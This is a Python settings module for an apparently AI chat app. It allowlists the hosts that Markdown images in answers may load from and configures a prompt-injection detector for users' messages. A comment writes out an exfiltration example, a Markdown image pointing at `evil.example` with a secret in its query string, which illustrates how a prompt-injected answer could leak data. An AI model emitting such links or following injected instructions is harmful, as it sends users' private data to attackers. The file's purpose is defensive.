"""`PARLEY_SAFETY__…`: what answers may make a browser load (README, "Prompt injection")."""

from __future__ import annotations

from pydantic import BaseModel, ConfigDict, Field, field_validator


class SafetySettings(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)

    # Hosts (`images.example.com`) an answer's Markdown images may load from, besides this app's own origin.
    # Any other image is removed from a saved answer and not loaded by the web app: a prompt-injected answer
    # could otherwise leak what it read in an image URL (`![x](https://evil.example/?q=<secret>)`).
    image_hosts: list[str] = Field(default_factory=list, max_length=100)
    # The prompt-injection check of users' messages: a detector that fails (or takes longer than
    # `timeout_seconds`) is logged and counted; the message is then answered (false: fail open) or, under a
    # plan's `block` policy, refused (true: fail closed).
    fail_closed: bool = False
    timeout_seconds: float = Field(default=2.0, gt=0, le=60)

    @field_validator("image_hosts")
    @classmethod
    def _plain_host_names(cls, hosts: list[str]) -> list[str]:
        normalised = [host.strip().lower().rstrip(".") for host in hosts]
        for host in normalised:
            if not host or any(c in host for c in "/:?#@ *"):
                raise ValueError(f"image_hosts: {host!r} is not a host name (e.g. images.example.com)")
        return normalised
